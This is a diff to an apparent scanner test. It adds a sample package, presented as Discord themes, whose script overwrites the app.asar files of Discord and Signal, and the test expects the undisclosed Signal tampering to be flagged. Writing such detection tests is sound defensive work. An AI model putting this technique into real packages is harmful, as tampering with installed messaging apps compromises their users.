@@ -46,6 +46,15 @@ examine(rewritesArchive, {
       weight: 'weak',
     },
     {
+      when: 'a second application is changed in the same place, of which its package says nothing',
+      files: {
+        'package.json': { name: 'specimen', version: '1.0.0', bin: 'cli.js', description: 'Themes for Discord' },
+        'cli.js': `const fs = require('fs'), path = require('path'); for (const name of ['Discord', 'Signal']) fs.copyFileSync(path.join(__dirname, 'theme.bin'), path.join(process.env.LOCALAPPDATA, 'Programs', name, 'resources', 'app.asar'));`,
+      },
+      weight: 'strong',
+      says: ['Signal'],
+    },
+    {
       when: 'the package says of another application that it changes it',
       files: {
         'package.json': {
